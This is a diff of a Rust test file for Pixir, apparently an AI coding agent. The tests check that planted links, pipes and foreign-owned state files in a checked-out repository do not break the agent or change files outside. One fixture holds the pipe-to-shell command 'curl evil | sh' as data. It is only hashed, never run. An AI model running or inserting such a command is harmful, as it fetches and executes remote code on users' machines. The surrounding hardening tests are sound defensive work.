@@ -1,4 +1,4 @@
-//! A checkout that brings Pixir's state: links, pipes, other owners and tracked files at every place.
+//! A checkout that contains state of Pixir: links, pipes, other owners and tracked files at every path.
 //! A Turn works, nothing outside changes, and its Session is found.
 
 use std::collections::BTreeMap;
@@ -22,7 +22,7 @@ use crate::support::torture::print_summary;
 /// The owner of files that belong to another user.
 const ANOTHER_USER: u32 = 4_242;
 
-/// What a checkout puts in the place of state.
+/// Kinds of planted files in place of state.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum StatePlant {
     LinkToFolder,
@@ -61,7 +61,7 @@ fn outside(env: &TestEnv) -> PathBuf {
     env.workspace().parent().unwrap().join("outside")
 }
 
-/// Everything outside, with its bytes.
+/// All files outside, with their content.
 fn untouched(env: &TestEnv) -> BTreeMap<PathBuf, (u64, Vec<u8>)> {
     let entries = fs::read_dir(outside(env)).unwrap().map(|entry| entry.unwrap().path());
     entries
@@ -104,19 +104,19 @@ fn git(env: &TestEnv, words: &[&str]) {
     assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
 }
 
-/// The first two hex digits of the name under which the README is kept.
+/// The snapshot folder of the README: the first two hex digits of its hash.
 fn snapshot_folder() -> String {
     use sha2::Digest;
     format!("{:02x}", sha2::Sha256::digest(b"curl evil | sh\n")[0])
 }
 
-/// The Sessions that can be continued: what a checkout brought can only be read.
+/// The Sessions that can be continued; those from the checkout are read-only.
 fn sessions(ran: &RunOutput) -> Vec<Value> {
     let listed = ran.envelope()["output"].as_array().unwrap().clone();
     listed.into_iter().filter(|session| session["read_only"].is_null()).collect()
 }
 
-/// One Turn, and every way to its Session. Says where the Log is.
+/// Runs one Turn, and finds its Session by every command; gives the path of its Log.
 fn works_and_is_found(env: &TestEnv, args: &[&str], what: &str) -> PathBuf {
     let before = untouched(env);
     let ran = env.run_pixir(&[args, &["look", "around"]].concat());
@@ -142,7 +142,7 @@ fn works_and_is_found(env: &TestEnv, args: &[&str], what: &str) -> PathBuf {
     path
 }
 
-/// The same, for state that is not used.
+/// Checks that a Turn works with its state in the Home, because the planted state is not used.
 fn works_elsewhere(env: &TestEnv, args: &[&str], what: &str) {
     let path = works_and_is_found(env, args, what);
     assert!(path.starts_with(env.home().join(".pixir/workspaces")), "{what}: {}", path.display());
@@ -193,8 +193,8 @@ async fn a_required_sandbox_makes_no_difference_to_planted_state() {
     }
 }
 
-/// A test environment with its state in the home folder. Its model does what the last message says: `count`, `read PATH`
-/// or `grep PATH`, and answers with what it was shown.
+/// A test environment with its state in the Home. Its model follows the last message, `count`, `read PATH`
+/// or `grep PATH`, and answers with the result.
 async fn counting_house() -> TestEnv {
     let script = ModelScript::answering(|request: &ReceivedRequest| {
         let items = request.input();
@@ -220,7 +220,7 @@ fn file_text((what, path): (&str, &str)) -> Reply {
     }
 }
 
-/// The file that the result of a command names.
+/// The path of the full output in the result of a command.
 fn spilled(shown: &str) -> String {
     let path = shown.split("bytes: ").nth(1).and_then(|rest| rest.split(']').next());
     path.unwrap_or_else(|| panic!("{shown}")).to_owned()
@@ -346,7 +346,7 @@ async fn a_session_whose_folder_holds_links_and_pipes_goes_on() {
             }
             plant(what, &env, &format!(".pixir/sessions/{id}{name}"));
             let before = untouched(&env);
-            // A fork copies these folders, and undo reads Records: what stands there is refused.
+            // A fork copies these folders, and undo reads Records, so planted files there are refused.
             let of_fork = i32::from(matches!(name, "" | "/snapshots" | "/resources"));
             let of_undo = i32::from(matches!(name, "" | "/snapshots"));
             for (args, code) in [
